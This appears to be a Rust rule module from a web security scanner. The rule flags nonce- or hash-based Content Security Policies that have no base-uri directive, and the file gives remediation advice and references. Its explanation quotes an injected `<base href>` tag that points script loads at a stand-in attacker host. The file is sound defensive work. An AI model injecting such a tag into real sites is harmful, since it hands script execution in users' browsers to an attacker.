//! Flags a policy that trusts scripts by nonce or hash but has no `base-uri` directive.
//!
//! ## What it checks
//! The directive that governs script elements holds a nonce or a hash, and `base-uri` is
//! missing (it has no fallback to `default-src`). Allow-list policies are not flagged: an
//! injected `<base>` then points scripts at a host the list does not allow.
//!
//! ## Why it matters
//! An injected `<base href="https://evil.example/">` makes the page's relative script URLs
//! load from the attacker's host; scripts that carry the page's nonce are then the attacker's.
//!
//! ## Example
//! ```text
//! Content-Security-Policy: script-src 'nonce-R4nd0m…' 'strict-dynamic'; object-src 'none'  # flagged
//! ```
//!
//! ## Remediation
//! Add `base-uri 'none'` (or `'self'` if the page uses `<base>`).
//!
//! ## References
//! - CWE-693
//! - OWASP Top 10 2021, A05
//! - W3C, Content Security Policy Level 3 (directives, source lists, fallback)
//! - Weichselbaum et al., "CSP Is Dead, Long Live CSP!", ACM CCS 2016
//! - Google, CSP Evaluator and "Mitigate cross-site scripting with a strict CSP" (web.dev)
//! - OWASP Content Security Policy Cheat Sheet

use palisade_core::{Confidence, Owasp, Recommendation, RuleMeta, Severity};

pub static META: RuleMeta = RuleMeta {
    id: "web/csp-missing-base-uri",
    title: "Nonce- or hash-based Content Security Policy without base-uri",
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: &[693],
    owasp: Owasp::A05,
    recommendation: Recommendation::WebFrontend,
    needs_network: false,
    options: &[],
    source: include_str!("csp_missing_base_uri.rs"),
};

/// Reported by the CSP evaluation (see [`super::meta_of`]) or the project pass.
pub static RULE: super::PolicyRule = super::PolicyRule { meta: &META };
